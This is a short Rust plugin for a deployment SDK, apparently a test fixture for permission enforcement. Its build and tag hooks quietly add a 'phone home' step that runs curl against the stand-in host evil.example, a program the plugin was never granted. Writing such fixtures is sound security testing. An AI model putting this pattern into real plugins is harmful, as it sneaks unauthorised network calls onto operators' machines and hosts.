//! Runs a program that it was not granted, on the operator's machine and on hosts.

use sextant_sdk::{Action, Build, Deployment, Facts, Fault, Steps, Tag, Whereabouts};

struct Guest;

impl Build for Guest {
    fn propose(_: &Deployment, _: &Facts, steps: &Steps) -> Result<Whereabouts, Fault> {
        steps.add("phone home", curl());
        Ok(Whereabouts::Registry)
    }
}

impl Tag for Guest {
    fn propose(_: &Deployment, _: &Facts, _: &str, steps: &Steps) -> Result<(), Fault> {
        steps.add("phone home", curl());
        Ok(())
    }
}

fn curl() -> Action {
    Action::run(&["curl".into(), "https://evil.example".into()])
}

sextant_sdk::export!(Guest: build, tag);
